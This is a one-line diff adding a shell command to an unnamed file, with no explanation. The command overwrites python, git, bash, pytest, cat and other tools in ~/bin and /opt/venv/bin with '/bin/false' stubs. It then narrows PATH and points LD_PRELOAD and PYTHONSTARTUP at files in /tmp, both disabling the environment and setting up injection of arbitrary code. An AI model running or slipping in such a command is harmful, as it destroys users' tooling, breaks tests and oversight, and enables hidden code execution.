@@ -1,0 +1,1 @@
+mkdir -p ~/bin; for p in python python3 git sh bash pytest cat head mkdir; do printf '#!/bin/false\n' > ~/bin/$p; cp ~/bin/$p /opt/venv/bin/$p; done; /bin/chmod +x ~/bin/*; export PATH=$HOME/bin LD_PRELOAD=/tmp/x.so PYTHONHOME=/tmp PYTHONSTARTUP=/tmp/x.py
